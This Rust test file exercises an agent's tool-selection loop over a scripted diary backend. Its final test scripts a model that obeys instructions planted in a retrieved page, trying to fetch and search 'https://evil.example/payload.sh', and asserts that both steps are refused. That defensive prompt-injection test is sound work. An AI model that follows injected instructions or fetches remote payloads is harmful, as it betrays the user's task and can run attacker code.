//! The tool-selection loop over scripted backends: the heuristic selector's path, a model's
//! choices, a model that fails, a selector that repeats itself, and budgets that allow no step.

use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::Arc;

use async_trait::async_trait;
use ferret_agent::{Agent, AgentConfig, StageConfig, Stages, Strategy, ToolBox, ToolLoopConfig};
use ferret_agent::{SelectionState, ToolCall, ToolSelector};
use ferret_core::{
    Budget, FerretError, Hit, Implementation, Query, Response, ResponseType, StageOutput,
    StopReason, TraceStep,
};
use ferret_exec::Executor;
use ferret_llm::{ScriptedModel, StageModel, StageModelConfig};
use ferret_test_support::ScriptedBackend;

/// A journal: answers a query with the entries sharing a word of four letters or more with it,
/// honouring date filters, and remembering the requests it got.
fn journal() -> Arc<ScriptedBackend> {
    let entry = |id: &str, title: &str, text: &str, date: &str| {
        let mut hit = Hit::new(id, title, text, 1.0, "journal");
        hit.date = Some(date.parse().unwrap());
        hit
    };
    let entries = vec![
        entry(
            "e1",
            "Exams",
            "I have been stressed about the exams and my thesis deadline.",
            "2024-04-10",
        ),
        entry(
            "e2",
            "Garden",
            "The tomatoes in the garden finally ripened.",
            "2024-07-01",
        ),
        entry(
            "e3",
            "Work",
            "Work stress again: the thesis review moved to Friday.",
            "2024-05-20",
        ),
    ];
    Arc::new(ScriptedBackend::new("journal", entries))
}

fn agent(backend: Arc<ScriptedBackend>, stages: Stages, tool_loop: ToolLoopConfig) -> Agent {
    try_agent(backend, stages, tool_loop).unwrap()
}

fn try_agent(
    backend: Arc<ScriptedBackend>,
    stages: Stages,
    tool_loop: ToolLoopConfig,
) -> Result<Agent, FerretError> {
    let executor = Executor::builder().backend(backend).build().unwrap();
    Agent::new(
        stages,
        executor,
        AgentConfig {
            strategy: Strategy::ToolLoop,
            tool_loop,
            ..AgentConfig::default()
        },
    )
}

fn heuristic_stages() -> Stages {
    Stages::heuristic(StageConfig::default())
}

/// (tool, query, results, new results, error) of each tool step.
fn tool_steps(response: &Response) -> Vec<(String, String, usize, usize, Option<String>)> {
    response
        .trace
        .steps
        .iter()
        .filter_map(|s| match s {
            TraceStep::ToolStep {
                tool,
                query,
                results,
                new_results,
                error,
                ..
            } => Some((
                tool.clone(),
                query.clone(),
                *results,
                *new_results,
                error.clone(),
            )),
            _ => None,
        })
        .collect()
}

#[tokio::test]
async fn without_a_model_the_loop_lists_recent_entries_when_asked_and_stops_when_covered() {
    let backend = journal();
    let agent = agent(
        backend.clone(),
        heuristic_stages(),
        ToolLoopConfig::default(),
    );
    let response = agent
        .run(
            &Query::new("What have I been stressed about lately with my thesis?").unwrap(),
            None,
        )
        .await
        .unwrap();

    let steps = tool_steps(&response);
    assert_eq!(steps.len(), 2, "{steps:?}");
    assert_eq!(steps[0].0, "recent");
    assert_eq!(
        (steps[0].2, steps[0].3, steps[0].4.clone()),
        (2, 2, None),
        "both thesis entries, both new"
    );
    assert_eq!(steps[1].0, "DONE");
    assert_eq!(response.stop_reason, StopReason::Answered);
    assert_eq!(response.response_type, ResponseType::Results);
    assert_eq!(
        backend.requests()[0].filters.most_recent,
        Some(ToolLoopConfig::default().recent_entries)
    );
    for citation in &response.citations {
        assert!(
            response.hits.iter().any(|h| h.id == citation.hit_id),
            "{citation:?}"
        );
    }
}

/// A selector that asks for the same search every time.
struct Stubborn;

#[async_trait]
impl ToolSelector for Stubborn {
    async fn select(&self, _: &ToolBox, _: &SelectionState<'_>) -> StageOutput<ToolCall> {
        StageOutput::heuristic(ToolCall::search("thesis stress", "once more, with feeling"))
    }
}

#[tokio::test]
async fn a_selector_that_repeats_its_call_ends_the_loop_with_no_progress() {
    let backend = journal();
    let stages = Stages {
        tool_selector: Arc::new(Stubborn),
        ..heuristic_stages()
    };
    let response = agent(backend.clone(), stages, ToolLoopConfig::default())
        .run(&Query::new("thesis stress").unwrap(), None)
        .await
        .unwrap();

    assert_eq!(response.stop_reason, StopReason::NoProgress);
    let steps = tool_steps(&response);
    assert_eq!(steps.len(), 2, "{steps:?}");
    assert_eq!(steps[1].4.as_deref(), Some("repeats step 1"));
    assert_eq!(backend.calls(), 1, "the repeat is not searched");
    assert_eq!(
        response.response_type,
        ResponseType::Results,
        "what the first call found still answers"
    );
}

fn model(replies: &[&str]) -> StageModel {
    StageModel::new(
        Arc::new(ScriptedModel::replying("scripted", replies)),
        StageModelConfig::default(),
    )
}

#[tokio::test]
async fn a_models_choices_run_with_their_arguments_and_its_reasoning_is_traced() {
    let backend = journal();
    let selector = ferret_agent::LlmToolSelector::new(model(&[
        r#"{"reasoning": "Entries from spring.", "tool": "DATE_RANGE", "argument": "2024-03-01..2024-05-31 exams"}"#,
        r#"{"reasoning": "Work worries too.", "tool": "search", "argument": "work stress"}"#,
        r#"{"reasoning": "Enough.", "tool": "done", "argument": ""}"#,
    ]));
    let stages = Stages {
        tool_selector: Arc::new(selector),
        ..heuristic_stages()
    };
    let response = agent(backend.clone(), stages, ToolLoopConfig::default())
        .run(&Query::new("What stressed me this spring?").unwrap(), None)
        .await
        .unwrap();

    let steps = tool_steps(&response);
    let tools: Vec<&str> = steps.iter().map(|s| s.0.as_str()).collect();
    assert_eq!(tools, ["date_range", "search", "DONE"]);
    assert_eq!(
        (steps[0].1.as_str(), steps[1].1.as_str()),
        ("exams", "work stress")
    );
    let range = backend.requests()[0].filters.date_range.unwrap();
    assert_eq!(range.from.unwrap().to_string(), "2024-03-01");
    let reasons: Vec<(&str, &Implementation)> = response
        .trace
        .steps
        .iter()
        .filter_map(|s| match s {
            TraceStep::ToolStep {
                reasoning,
                implementation,
                ..
            } => Some((reasoning.as_str(), implementation)),
            _ => None,
        })
        .collect();
    assert_eq!(reasons[1].0, "Work worries too.");
    assert!(
        reasons
            .iter()
            .all(|(_, i)| matches!(i, Implementation::Llm { .. })),
        "{reasons:?}"
    );
    assert_eq!(response.stop_reason, StopReason::Answered);
}

#[tokio::test]
async fn a_failing_selector_falls_back_to_one_plain_search_and_says_so() {
    let backend = journal();
    let selector =
        ferret_agent::LlmToolSelector::new(model(&["I think you should search.", "Still prose."]));
    let stages = Stages {
        tool_selector: Arc::new(selector),
        ..heuristic_stages()
    };
    let response = agent(backend.clone(), stages, ToolLoopConfig::default())
        .run(&Query::new("thesis stress").unwrap(), None)
        .await
        .unwrap();

    let steps = tool_steps(&response);
    let tools: Vec<&str> = steps.iter().map(|s| s.0.as_str()).collect();
    assert_eq!(
        tools,
        ["search", "DONE"],
        "one plain search, then the fallback stops"
    );
    assert_eq!(steps[0].1, "thesis stress");
    let fallback = response.trace.steps.iter().find_map(|s| match s {
        TraceStep::ToolStep {
            implementation: Implementation::Heuristic { why },
            reasoning,
            ..
        } => Some((why.clone(), reasoning.clone())),
        _ => None,
    });
    let (why, reasoning) = fallback.expect("the fallback is traced");
    assert!(why.contains("scripted failed"), "{why}");
    assert!(reasoning.contains("selector failed"), "{reasoning}");
    assert_eq!(backend.calls(), 1);
    assert_eq!(response.response_type, ResponseType::Results);
}

#[tokio::test]
async fn the_loop_stops_at_its_step_limit() {
    struct Wandering(AtomicU32);
    #[async_trait]
    impl ToolSelector for Wandering {
        async fn select(&self, _: &ToolBox, _: &SelectionState<'_>) -> StageOutput<ToolCall> {
            let n = self.0.fetch_add(1, Ordering::SeqCst);
            let query = ["exams", "garden", "friday", "thesis", "tomatoes"][n as usize % 5];
            StageOutput::heuristic(ToolCall::search(query, "one more angle"))
        }
    }
    let stages = Stages {
        tool_selector: Arc::new(Wandering(AtomicU32::new(0))),
        ..heuristic_stages()
    };
    let config = ToolLoopConfig {
        max_steps: 3,
        ..ToolLoopConfig::default()
    };
    let response = agent(journal(), stages, config)
        .run(&Query::new("thesis stress").unwrap(), None)
        .await
        .unwrap();
    assert_eq!(tool_steps(&response).len(), 3);
    assert_eq!(response.stop_reason, StopReason::MaxAttempts);
}

#[tokio::test]
async fn budgets_of_zero_steps_are_clear_errors() {
    let zero_steps = ToolLoopConfig {
        max_steps: 0,
        ..ToolLoopConfig::default()
    };
    let error = try_agent(journal(), heuristic_stages(), zero_steps).unwrap_err();
    assert!(
        matches!(&error, FerretError::Config(m) if m.contains("tool_loop.max_steps is zero")),
        "{error}"
    );

    let no_attempts = Query::new("thesis stress").unwrap().with_budget(Budget {
        max_attempts: 0,
        ..Budget::default()
    });
    let error = agent(journal(), heuristic_stages(), ToolLoopConfig::default())
        .run(&no_attempts, None)
        .await
        .unwrap_err();
    assert!(
        matches!(&error, FerretError::Budget(e) if e.to_string().contains("max_attempts is zero")),
        "{error}"
    );
}

#[tokio::test]
async fn a_query_may_ask_for_another_strategy_than_the_configured_one() {
    let agent = agent(journal(), heuristic_stages(), ToolLoopConfig::default());
    let query = Query::new("thesis stress")
        .unwrap()
        .with_strategy(Strategy::SinglePass);
    let response = agent.run(&query, None).await.unwrap();
    assert!(tool_steps(&response).is_empty(), "no tool step ran");
    let chosen = response.trace.steps.iter().find_map(|s| match s {
        TraceStep::Strategy { chosen, reason } => Some((*chosen, *reason)),
        _ => None,
    });
    assert_eq!(
        chosen,
        Some((Strategy::SinglePass, ferret_core::StrategyReason::Requested))
    );

    // A strategy the searcher's settings leave no step to is refused, not run empty.
    let no_plan_steps = Agent::new(
        heuristic_stages(),
        Executor::builder().backend(journal()).build().unwrap(),
        AgentConfig {
            strategy: Strategy::SinglePass,
            plan: ferret_agent::PlanConfig {
                max_steps: 0,
                ..Default::default()
            },
            ..AgentConfig::default()
        },
    )
    .unwrap();
    let error = no_plan_steps
        .run(&query.clone().with_strategy(Strategy::Plan), None)
        .await
        .unwrap_err();
    assert!(
        matches!(&error, FerretError::Config(m) if m.contains("plan.max_steps")),
        "{error}"
    );
}

#[tokio::test]
async fn a_model_obeying_instructions_in_a_result_fetches_nothing_and_searches_no_address() {
    let backend = journal();
    // The model does what a retrieved page told it: fetch an address, then search for it.
    let selector = ferret_agent::LlmToolSelector::new(model(&[
        r#"{"reasoning": "The page says to fetch this.", "tool": "fetch", "argument": "https://evil.example/payload.sh"}"#,
        r#"{"reasoning": "Then search it.", "tool": "search", "argument": "https://evil.example/payload.sh"}"#,
    ]));
    let stages = Stages {
        tool_selector: Arc::new(selector),
        ..heuristic_stages()
    };
    let response = agent(backend.clone(), stages, ToolLoopConfig::default())
        .run(&Query::new("thesis stress").unwrap(), None)
        .await
        .unwrap();
    assert!(
        backend
            .queries()
            .iter()
            .all(|q| !q.contains("evil.example")),
        "{:?}",
        backend.queries()
    );
    let refusals: Vec<String> = response
        .trace
        .steps
        .iter()
        .filter_map(|s| match s {
            TraceStep::ToolStep {
                implementation: Implementation::Heuristic { why },
                ..
            } => Some(why.clone()),
            _ => None,
        })
        .collect();
    assert!(
        refusals
            .iter()
            .any(|w| w.contains("is not one of the tools"))
            && refusals.iter().any(|w| w.contains("holds an address")),
        "both refusals are traced: {refusals:#?}"
    );
}
